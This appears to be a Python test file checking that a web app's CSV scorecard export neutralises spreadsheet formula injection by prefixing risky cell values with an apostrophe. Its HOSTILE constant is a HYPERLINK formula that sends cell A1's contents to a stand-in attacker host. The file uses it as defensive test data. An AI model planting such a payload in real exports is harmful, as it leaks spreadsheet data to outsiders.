"""CSV exports never hand a spreadsheet a formula: names starting with =, +, -, @ come out as text."""

from __future__ import annotations

import csv
import io

from incentives.accounts import services as accounts
from incentives.accounts.roles import Role
from incentives.db import Database
from incentives.web.spreadsheet import cell
from tests.conftest import page_client
from tests.factories import make_org, make_program, make_user
from tests.web.test_pages import login

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"Klick")'


def test_formula_starts_are_neutralised_and_numbers_kept() -> None:
    assert [cell(v) for v in ("=1+1", "+49 89", "-cmd", "@SUM(A1)", "\tx", "Huber GmbH")] == [
        "'=1+1",
        "'+49 89",
        "'-cmd",
        "'@SUM(A1)",
        "'\tx",
        "Huber GmbH",
    ]
    assert [cell(v) for v in ("-3.5", "-12", -4, 0.25, None)] == ["-3.5", "-12", -4, 0.25, ""]


async def test_a_hostile_partner_name_is_text_in_the_scorecards_export(db: Database, server: str) -> None:
    world = await make_program(db)
    org_id = await make_org(db, world, "reseller", name=HOSTILE)
    async with db.transaction() as session:
        await accounts.create_membership(
            session,
            world.admin.principal,
            program_id=world.program_id,
            org_id=org_id,
            tier="gold",
            competencies=["heat_pumps"],
            certifications=[],
            regions=["DE"],
        )
    pam = await make_user(db, world, world.admin.org_id, Role.PARTNER_MANAGER, locale="en")
    async with page_client(server, timeout=30) as http:
        await login(http, pam.email)
        export = await http.get("/kpis/scorecards.csv")
    rows = list(csv.reader(io.StringIO(export.text.lstrip("\ufeff"))))
    names = [row[0] for row in rows[1:]]
    assert names == ["'" + HOSTILE]
